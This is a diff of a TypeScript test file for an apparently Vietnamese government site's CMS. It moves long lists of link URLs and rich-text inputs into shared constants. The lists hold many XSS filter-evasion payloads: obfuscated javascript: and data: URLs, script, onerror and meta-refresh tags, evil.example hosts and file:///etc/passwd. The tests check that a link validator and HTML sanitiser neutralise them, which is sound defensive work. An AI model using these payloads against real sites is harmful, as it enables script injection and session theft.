@@ -118,77 +118,79 @@ const activeContent = (html: string): string[] => {
 // The link rule
 // ---------------------------------------------------------------------------------------------
 
+const REFUSED_LINKS = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  '\tjavascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java\rscript:alert(1)',
+  'java\u0000script:alert(1)',
+  '\u0001javascript:alert(1)',
+  'javascript\u200b:alert(1)',
+  '\u202ejavascript:alert(1)',
+  '\ufeffjavascript:alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6A;avascript:alert(1)',
+  'jav&#x09;ascript:alert(1)',
+  '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
+  'javascript://%0aalert(1)',
+  'vbscript:msgbox(1)',
+  'livescript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'DATA:text/html,<script>alert(1)</script>',
+  'file:///etc/passwd',
+  'ftp://angiang.gov.vn/',
+  'blob:https://angiang.gov.vn/x',
+  '//evil.example',
+  '///evil.example',
+  '/\\evil.example',
+  '\\\\evil.example',
+  '\\/evil.example',
+  'https:\\\\evil.example',
+  'https:/evil.example',
+  'https://',
+  'http:///evil',
+  'https:evil.example',
+  'evil.example',
+  'www.evil.example',
+  'tin-tuc/',
+  './tin-tuc',
+  '../tin-tuc',
+  '?a=1',
+  'mailto:',
+  'tel:',
+  'tel:javascript:alert(1)',
+  'tel:+84 296',
+  '/tin tuc',
+  'https://angiang.gov.vn/ x',
+  '',
+  `/${'a'.repeat(3000)}`,
+]
+
+const ACCEPTED_LINKS = [
+  'https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh-chi-tiet.html?ma_thu_tuc=1.001193',
+  'http://angiang.gov.vn',
+  'HTTPS://ANGIANG.GOV.VN/tin-tuc',
+  'https://xn--an-giang-7za.vn/a#b',
+  'mailto:ubnd@angiang.gov.vn',
+  'mailto:ubnd@angiang.gov.vn?subject=G%C3%B3p%20%C3%BD',
+  'tel:+842963852000',
+  'tel:0296-385-2000',
+  '/',
+  '/tin-tuc/',
+  '/gioi-thieu/lich-su/?a=1#b',
+  '#noi-dung',
+]
+
 describe('the link rule (every URL field, and links in rich text)', () => {
-  const accepted = [
-    'https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh-chi-tiet.html?ma_thu_tuc=1.001193',
-    'http://angiang.gov.vn',
-    'HTTPS://ANGIANG.GOV.VN/tin-tuc',
-    'https://xn--an-giang-7za.vn/a#b',
-    'mailto:ubnd@angiang.gov.vn',
-    'mailto:ubnd@angiang.gov.vn?subject=G%C3%B3p%20%C3%BD',
-    'tel:+842963852000',
-    'tel:0296-385-2000',
-    '/',
-    '/tin-tuc/',
-    '/gioi-thieu/lich-su/?a=1#b',
-    '#noi-dung',
-  ]
-  it.each(accepted)('accepts %s', (url) => {
+  it.each(ACCEPTED_LINKS)('accepts %s', (url) => {
     expect(isSafeLinkUrl(url)).toBe(true)
   })
 
-  const refused = [
-    'javascript:alert(1)',
-    'JaVaScRiPt:alert(1)',
-    ' javascript:alert(1)',
-    '\tjavascript:alert(1)',
-    'java\tscript:alert(1)',
-    'java\nscript:alert(1)',
-    'java\rscript:alert(1)',
-    'java\u0000script:alert(1)',
-    '\u0001javascript:alert(1)',
-    'javascript\u200b:alert(1)',
-    '\u202ejavascript:alert(1)',
-    '\ufeffjavascript:alert(1)',
-    '&#106;avascript:alert(1)',
-    '&#x6A;avascript:alert(1)',
-    'jav&#x09;ascript:alert(1)',
-    '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
-    'javascript://%0aalert(1)',
-    'vbscript:msgbox(1)',
-    'livescript:alert(1)',
-    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-    'data:image/svg+xml,<svg onload=alert(1)>',
-    'DATA:text/html,<script>alert(1)</script>',
-    'file:///etc/passwd',
-    'ftp://angiang.gov.vn/',
-    'blob:https://angiang.gov.vn/x',
-    '//evil.example',
-    '///evil.example',
-    '/\\evil.example',
-    '\\\\evil.example',
-    '\\/evil.example',
-    'https:\\\\evil.example',
-    'https:/evil.example',
-    'https://',
-    'http:///evil',
-    'https:evil.example',
-    'evil.example',
-    'www.evil.example',
-    'tin-tuc/',
-    './tin-tuc',
-    '../tin-tuc',
-    '?a=1',
-    'mailto:',
-    'tel:',
-    'tel:javascript:alert(1)',
-    'tel:+84 296',
-    '/tin tuc',
-    'https://angiang.gov.vn/ x',
-    '',
-    `/${'a'.repeat(3000)}`,
-  ]
-  it.each(refused)('refuses %j', (url) => {
+  it.each(REFUSED_LINKS)('refuses %j', (url) => {
     expect(isSafeLinkUrl(url)).toBe(false)
   })
 
@@ -286,108 +288,108 @@ describe('the link rule (every URL field, and links in rich text)', () => {
 // The sanitiser, on hand-written HTML (OWASP filter evasion style)
 // ---------------------------------------------------------------------------------------------
 
-describe('the rich text sanitiser refuses active content', () => {
-  const payloads: [string, string][] = [
-    ['script element', '<script>alert(1)</script>'],
-    ['script, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
-    ['script split by a null', '<scr\u0000ipt>alert(1)</script>'],
-    ['nested script', '<<script>script>alert(1)<</script>/script>'],
-    ['script with extra attributes', '<script/XSS src="//evil.example/x.js"></script>'],
-    ['unclosed script', '<script src=//evil.example/x.js?< B >'],
-    ['img onerror', '<img src=x onerror=alert(1)>'],
-    ['img onerror, no quotes or spaces', '<img/src=x/onerror=alert(1)>'],
-    ['img javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
-    ['img javascript: src with tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
-    ['img javascript: src with encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
-    ['img javascript: src with encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
-    [
-      'img decimal entities',
-      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
-    ],
-    [
-      'img long decimal entities',
-      '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
-    ],
-    ['img hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>'],
-    ['img spaces and meta before javascript:', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
-    ['img dynsrc / lowsrc', '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">'],
-    ['img from another host (tracking pixel)', '<img src="https://evil.example/pixel.gif" alt="">'],
-    ['img protocol-relative', '<img src="//evil.example/a.png" alt="">'],
-    ['img data: URL', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">'],
-    ['img srcset from another host', '<img src="/media/a.jpg" srcset="https://evil.example/a.jpg 1x" alt="a">'],
-    ['a javascript: href', '<a href="javascript:alert(1)">x</a>'],
-    ['a javascript: href, mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
-    ['a javascript: href, entity-encoded colon', '<a href="javascript&colon;alert(1)">x</a>'],
-    ['a javascript: href, entity-encoded letters', '<a href="&#106;avascript:alert(1)">x</a>'],
-    ['a javascript: href with a tab entity', '<a href="java&Tab;script:alert(1)">x</a>'],
-    ['a javascript: href with a newline entity', '<a href="java&NewLine;script:alert(1)">x</a>'],
-    ['a vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
-    ['a data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
-    ['a protocol-relative href', '<a href="//evil.example">x</a>'],
-    ['a backslash href', '<a href="/\\evil.example">x</a>'],
-    ['a onclick', '<a href="/" onclick="alert(1)">x</a>'],
-    ['a target without noopener', '<a href="https://evil.example" target="_blank">x</a>'],
-    ['a target to a named window', '<a href="/" target="tab">x</a>'],
-    ['a formaction / ping', '<a href="/" ping="https://evil.example/">x</a>'],
-    ['body onload', '<body onload=alert(1)>'],
-    ['svg onload', '<svg/onload=alert(1)>'],
-    ['svg with script', '<svg><script>alert(1)</script></svg>'],
-    ['math with href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
-    ['iframe', '<iframe src="https://evil.example"></iframe>'],
-    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
-    ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
-    ['object', '<object data="javascript:alert(1)"></object>'],
-    ['embed', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
-    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
-    [
-      'meta refresh with data:',
-      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
-    ],
-    ['base href', '<base href="https://evil.example/">'],
-    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
-    ['style element', '<style>body{display:none}</style>'],
-    ['style @import', '<style>@import "https://evil.example/x.css";</style>'],
-    [
-      'style attribute covering the page',
-      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">Trang đã chuyển</div>',
-    ],
-    ['style attribute with url()', '<p style="background-image:url(javascript:alert(1))">x</p>'],
-    ['style attribute with expression()', '<p style="width:expression(alert(1))">x</p>'],
-    ['style attribute with escapes', '<p style="background:\\75rl(https://evil.example)">x</p>'],
-    [
-      'cell background with url()',
-      '<table><tr><td style="background-color:url(https://evil.example)">x</td></tr></table>',
-    ],
-    [
-      'form',
-      '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Gửi</button></form>',
-    ],
-    ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
-    ['details ontoggle', '<details open ontoggle=alert(1)>'],
-    ['video source onerror', '<video><source onerror="alert(1)"></video>'],
-    ['audio', '<audio src=x onerror=alert(1)>'],
-    ['marquee onstart', '<marquee onstart=alert(1)>'],
-    ['template', '<template><script>alert(1)</script></template>'],
-    ['noscript with a closing trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
-    ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
-    ['title breakout', '<title></title><script>alert(1)</script>'],
-    ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
-    ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
-    ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
-    ['attribute breaking quote', '<p title="a" onmouseover="alert(1)">x</p>'],
-    ['class and id (clobbering, CSS hooks)', '<p class="modal-overlay" id="location" name="alert">x</p>'],
-    ['xmlns / xlink', '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>'],
-    ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
-    ['td with handler', '<table><tr><td onmouseover="alert(1)" colspan="2 onclick=alert(1)">x</td></tr></table>'],
-    ['blockquote cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
-    [
-      'picture source from another host',
-      '<picture><source srcset="https://evil.example/a.webp" type="image/webp"><img src="/media/a.jpg" alt="a"></picture>',
-    ],
-    ['unknown element with handler', '<x-evil onclick="alert(1)">x</x-evil>'],
-    ['half-open tag', '<img src="/media/a.jpg" alt="a" onerror="alert(1)"'],
-  ]
+const ACTIVE_PAYLOADS: [string, string][] = [
+  ['script element', '<script>alert(1)</script>'],
+  ['script, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
+  ['script split by a null', '<scr\u0000ipt>alert(1)</script>'],
+  ['nested script', '<<script>script>alert(1)<</script>/script>'],
+  ['script with extra attributes', '<script/XSS src="//evil.example/x.js"></script>'],
+  ['unclosed script', '<script src=//evil.example/x.js?< B >'],
+  ['img onerror', '<img src=x onerror=alert(1)>'],
+  ['img onerror, no quotes or spaces', '<img/src=x/onerror=alert(1)>'],
+  ['img javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
+  ['img javascript: src with tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
+  ['img javascript: src with encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
+  ['img javascript: src with encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
+  [
+    'img decimal entities',
+    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+  ],
+  [
+    'img long decimal entities',
+    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
+  ],
+  ['img hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>'],
+  ['img spaces and meta before javascript:', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
+  ['img dynsrc / lowsrc', '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">'],
+  ['img from another host (tracking pixel)', '<img src="https://evil.example/pixel.gif" alt="">'],
+  ['img protocol-relative', '<img src="//evil.example/a.png" alt="">'],
+  ['img data: URL', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">'],
+  ['img srcset from another host', '<img src="/media/a.jpg" srcset="https://evil.example/a.jpg 1x" alt="a">'],
+  ['a javascript: href', '<a href="javascript:alert(1)">x</a>'],
+  ['a javascript: href, mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
+  ['a javascript: href, entity-encoded colon', '<a href="javascript&colon;alert(1)">x</a>'],
+  ['a javascript: href, entity-encoded letters', '<a href="&#106;avascript:alert(1)">x</a>'],
+  ['a javascript: href with a tab entity', '<a href="java&Tab;script:alert(1)">x</a>'],
+  ['a javascript: href with a newline entity', '<a href="java&NewLine;script:alert(1)">x</a>'],
+  ['a vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['a data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
+  ['a protocol-relative href', '<a href="//evil.example">x</a>'],
+  ['a backslash href', '<a href="/\\evil.example">x</a>'],
+  ['a onclick', '<a href="/" onclick="alert(1)">x</a>'],
+  ['a target without noopener', '<a href="https://evil.example" target="_blank">x</a>'],
+  ['a target to a named window', '<a href="/" target="tab">x</a>'],
+  ['a formaction / ping', '<a href="/" ping="https://evil.example/">x</a>'],
+  ['body onload', '<body onload=alert(1)>'],
+  ['svg onload', '<svg/onload=alert(1)>'],
+  ['svg with script', '<svg><script>alert(1)</script></svg>'],
+  ['math with href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
+  ['iframe', '<iframe src="https://evil.example"></iframe>'],
+  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
+  ['object', '<object data="javascript:alert(1)"></object>'],
+  ['embed', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  [
+    'meta refresh with data:',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
+  ],
+  ['base href', '<base href="https://evil.example/">'],
+  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
+  ['style element', '<style>body{display:none}</style>'],
+  ['style @import', '<style>@import "https://evil.example/x.css";</style>'],
+  [
+    'style attribute covering the page',
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">Trang đã chuyển</div>',
+  ],
+  ['style attribute with url()', '<p style="background-image:url(javascript:alert(1))">x</p>'],
+  ['style attribute with expression()', '<p style="width:expression(alert(1))">x</p>'],
+  ['style attribute with escapes', '<p style="background:\\75rl(https://evil.example)">x</p>'],
+  [
+    'cell background with url()',
+    '<table><tr><td style="background-color:url(https://evil.example)">x</td></tr></table>',
+  ],
+  [
+    'form',
+    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Gửi</button></form>',
+  ],
+  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
+  ['details ontoggle', '<details open ontoggle=alert(1)>'],
+  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
+  ['audio', '<audio src=x onerror=alert(1)>'],
+  ['marquee onstart', '<marquee onstart=alert(1)>'],
+  ['template', '<template><script>alert(1)</script></template>'],
+  ['noscript with a closing trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+  ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
+  ['title breakout', '<title></title><script>alert(1)</script>'],
+  ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
+  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
+  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
+  ['attribute breaking quote', '<p title="a" onmouseover="alert(1)">x</p>'],
+  ['class and id (clobbering, CSS hooks)', '<p class="modal-overlay" id="location" name="alert">x</p>'],
+  ['xmlns / xlink', '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>'],
+  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
+  ['td with handler', '<table><tr><td onmouseover="alert(1)" colspan="2 onclick=alert(1)">x</td></tr></table>'],
+  ['blockquote cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
+  [
+    'picture source from another host',
+    '<picture><source srcset="https://evil.example/a.webp" type="image/webp"><img src="/media/a.jpg" alt="a"></picture>',
+  ],
+  ['unknown element with handler', '<x-evil onclick="alert(1)">x</x-evil>'],
+  ['half-open tag', '<img src="/media/a.jpg" alt="a" onerror="alert(1)"'],
+]
 
+describe('the rich text sanitiser refuses active content', () => {
   it('the checker itself sees active content (so a pass means something)', () => {
     for (const bad of [
       '<img src=x onerror=alert(1)>',
@@ -401,13 +403,13 @@ describe('the rich text sanitiser refuses active content', () => {
       expect(activeContent(bad), bad).not.toEqual([])
   })
 
-  it.each(payloads)('%s', (_name, payload) => {
+  it.each(ACTIVE_PAYLOADS)('%s', (_name, payload) => {
     const out = sanitizeRichText(payload)
     expect(activeContent(out), out).toEqual([])
   })
 
   it('a second pass changes nothing (the output is stable)', () => {
-    for (const [, payload] of payloads) {
+    for (const [, payload] of ACTIVE_PAYLOADS) {
       const once = sanitizeRichText(payload)
       expect(sanitizeRichText(once)).toBe(once)
     }
@@ -505,131 +507,128 @@ const table = (cells: unknown[]) => ({
 })
 const link = (fields: object, label = 'Liên kết') => ({ type: 'link', version: 3, fields, children: [text(label)] })
 
-describe('Lexical documents with crafted attributes, through the exporter’s converter and sanitiser', () => {
-  const crafted: [string, unknown[]][] = [
-    ['table cell headerState', [table([cell({ headerState: `1${XSS}` })])]],
+const CRAFTED_LEXICAL: [string, unknown[]][] = [
+  ['table cell headerState', [table([cell({ headerState: `1${XSS}` })])]],
+  ['table cell headerState as a closing tag', [table([cell({ headerState: '1"><script>alert(1)</script><td x="' })])]],
+  ['table cell colSpan / rowSpan', [table([cell({ colSpan: `3${XSS}`, rowSpan: ['2" onclick="alert(1)'] })])]],
+  [
+    'table cell backgroundColor',
+    [table([cell({ backgroundColor: `red;background-image:url(https://evil.example/x)` })])],
+  ],
+  [
+    'table row / table extra attributes',
     [
-      'table cell headerState as a closing tag',
-      [table([cell({ headerState: '1"><script>alert(1)</script><td x="' })])],
+      {
+        type: 'table',
+        version: 1,
+        style: XSS,
+        children: [{ type: 'tablerow', version: 1, height: XSS, children: [cell({})] }],
+      },
     ],
-    ['table cell colSpan / rowSpan', [table([cell({ colSpan: `3${XSS}`, rowSpan: ['2" onclick="alert(1)'] })])]],
+  ],
+  ['heading tag', [{ type: 'heading', tag: `h2${XSS}`, version: 1, children: [text('x')] }]],
+  ['heading tag "script"', [{ type: 'heading', tag: 'script', version: 1, children: [text('alert(1)')] }]],
+  ['paragraph format', [paragraph([text('x')], { format: `center${XSS}` })]],
+  ['paragraph indent', [paragraph([text('x')], { indent: `1${XSS}` })]],
+  [
+    'paragraph textFormat / textStyle / direction',
+    [paragraph([text('x')], { textFormat: XSS, textStyle: XSS, direction: XSS })],
+  ],
+  ['text format', [paragraph([text('x', `1${XSS}`), { ...text('y'), style: 'position:fixed;inset:0' }])]],
+  ['text with markup', [paragraph([text('<script>alert(1)</script><img src=x onerror=alert(1)>')])]],
+  [
+    'list tag and listType',
     [
-      'table cell backgroundColor',
-      [table([cell({ backgroundColor: `red;background-image:url(https://evil.example/x)` })])],
+      {
+        type: 'list',
+        tag: `ul${XSS}`,
+        listType: `bullet${XSS}`,
+        start: XSS,
+        version: 1,
+        children: [{ type: 'listitem', value: `1${XSS}`, version: 1, children: [text('x')] }],
+      },
     ],
+  ],
+  [
+    'check list item',
     [
-      'table row / table extra attributes',
-      [
-        {
-          type: 'table',
-          version: 1,
-          style: XSS,
-          children: [{ type: 'tablerow', version: 1, height: XSS, children: [cell({})] }],
-        },
-      ],
+      {
+        type: 'list',
+        tag: 'ul',
+        listType: 'check',
+        version: 1,
+        children: [{ type: 'listitem', value: 1, checked: XSS, version: 1, children: [text('x')] }],
+      },
     ],
-    ['heading tag', [{ type: 'heading', tag: `h2${XSS}`, version: 1, children: [text('x')] }]],
-    ['heading tag "script"', [{ type: 'heading', tag: 'script', version: 1, children: [text('alert(1)')] }]],
-    ['paragraph format', [paragraph([text('x')], { format: `center${XSS}` })]],
-    ['paragraph indent', [paragraph([text('x')], { indent: `1${XSS}` })]],
+  ],
+  ['link url javascript:', [paragraph([link({ linkType: 'custom', url: 'javascript:alert(1)' })])]],
+  ['link url obfuscated', [paragraph([link({ linkType: 'custom', url: ' jAvA\tsCrIpT:alert(1)' })])]],
+  [
+    'link url data:',
+    [paragraph([link({ linkType: 'custom', url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' })])],
+  ],
+  ['link url breaking the attribute', [paragraph([link({ linkType: 'custom', url: `https://a.vn/${XSS}` })])]],
+  ['link url protocol-relative', [paragraph([link({ linkType: 'custom', url: '//evil.example/' })])]],
+  [
+    'link rel / target / newTab',
+    [paragraph([link({ linkType: 'custom', url: '/', newTab: XSS, rel: XSS, target: XSS })])],
+  ],
+  [
+    'internal link with a crafted doc',
+    [paragraph([link({ linkType: 'internal', doc: { relationTo: 'posts', value: `1${XSS}` } })])],
+  ],
+  [
+    'autolink',
+    [paragraph([{ type: 'autolink', version: 2, fields: { url: 'javascript:alert(1)' }, children: [text('x')] }])],
+  ],
+  [
+    'upload node with crafted media',
     [
-      'paragraph textFormat / textStyle / direction',
-      [paragraph([text('x')], { textFormat: XSS, textStyle: XSS, direction: XSS })],
-    ],
-    ['text format', [paragraph([text('x', `1${XSS}`), { ...text('y'), style: 'position:fixed;inset:0' }])]],
-    ['text with markup', [paragraph([text('<script>alert(1)</script><img src=x onerror=alert(1)>')])]],
-    [
-      'list tag and listType',
-      [
-        {
-          type: 'list',
-          tag: `ul${XSS}`,
-          listType: `bullet${XSS}`,
-          start: XSS,
-          version: 1,
-          children: [{ type: 'listitem', value: `1${XSS}`, version: 1, children: [text('x')] }],
-        },
-      ],
-    ],
-    [
-      'check list item',
-      [
-        {
-          type: 'list',
-          tag: 'ul',
-          listType: 'check',
-          version: 1,
-          children: [{ type: 'listitem', value: 1, checked: XSS, version: 1, children: [text('x')] }],
-        },
-      ],
-    ],
-    ['link url javascript:', [paragraph([link({ linkType: 'custom', url: 'javascript:alert(1)' })])]],
-    ['link url obfuscated', [paragraph([link({ linkType: 'custom', url: ' jAvA\tsCrIpT:alert(1)' })])]],
-    [
-      'link url data:',
-      [paragraph([link({ linkType: 'custom', url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' })])],
-    ],
-    ['link url breaking the attribute', [paragraph([link({ linkType: 'custom', url: `https://a.vn/${XSS}` })])]],
-    ['link url protocol-relative', [paragraph([link({ linkType: 'custom', url: '//evil.example/' })])]],
-    [
-      'link rel / target / newTab',
-      [paragraph([link({ linkType: 'custom', url: '/', newTab: XSS, rel: XSS, target: XSS })])],
-    ],
-    [
-      'internal link with a crafted doc',
-      [paragraph([link({ linkType: 'internal', doc: { relationTo: 'posts', value: `1${XSS}` } })])],
-    ],
-    [
-      'autolink',
-      [paragraph([{ type: 'autolink', version: 2, fields: { url: 'javascript:alert(1)' }, children: [text('x')] }])],
-    ],
-    [
-      'upload node with crafted media',
-      [
-        {
-          type: 'upload',
-          version: 3,
-          relationTo: 'media',
-          value: {
-            url: `javascript:alert(1)${XSS}`,
-            alt: XSS,
-            mimeType: 'image/png',
-            filename: XSS,
-            width: XSS,
-            height: 1,
-            sizes: {
-              x: {
-                url: 'https://evil.example/x.png',
-                width: 1,
-                height: 1,
-                mimeType: `image/png${XSS}`,
-                filesize: 1,
-                filename: 'x',
-              },
+      {
+        type: 'upload',
+        version: 3,
+        relationTo: 'media',
+        value: {
+          url: `javascript:alert(1)${XSS}`,
+          alt: XSS,
+          mimeType: 'image/png',
+          filename: XSS,
+          width: XSS,
+          height: 1,
+          sizes: {
+            x: {
+              url: 'https://evil.example/x.png',
+              width: 1,
+              height: 1,
+              mimeType: `image/png${XSS}`,
+              filesize: 1,
+              filename: 'x',
             },
           },
-          fields: { alt: XSS },
         },
-      ],
+        fields: { alt: XSS },
+      },
     ],
+  ],
+  [
+    'upload node that is not an image',
     [
-      'upload node that is not an image',
-      [
-        {
-          type: 'upload',
-          version: 3,
-          relationTo: 'media',
-          value: { url: 'javascript:alert(1)', mimeType: 'application/pdf', filename: XSS },
-          fields: {},
-        },
-      ],
+      {
+        type: 'upload',
+        version: 3,
+        relationTo: 'media',
+        value: { url: 'javascript:alert(1)', mimeType: 'application/pdf', filename: XSS },
+        fields: {},
+      },
     ],
-    ['relationship node', [{ type: 'relationship', version: 2, relationTo: XSS, value: { id: XSS } }]],
-    ['unknown node type', [{ type: '<script>alert(1)</script>', version: 1, children: [text('x')] }]],
-    ['block node', [{ type: 'block', version: 2, fields: { blockType: XSS, html: '<script>alert(1)</script>' } }]],
-  ]
+  ],
+  ['relationship node', [{ type: 'relationship', version: 2, relationTo: XSS, value: { id: XSS } }]],
+  ['unknown node type', [{ type: '<script>alert(1)</script>', version: 1, children: [text('x')] }]],
+  ['block node', [{ type: 'block', version: 2, fields: { blockType: XSS, html: '<script>alert(1)</script>' } }]],
+]
 
-  it.each(crafted)('%s', (_name, children) => {
+describe('Lexical documents with crafted attributes, through the exporter’s converter and sanitiser', () => {
+  it.each(CRAFTED_LEXICAL)('%s', (_name, children) => {
     const out = exportHtml(children)
     expect(activeContent(out), out).toEqual([])
     // Within the markup itself (the text may say anything: it is escaped).
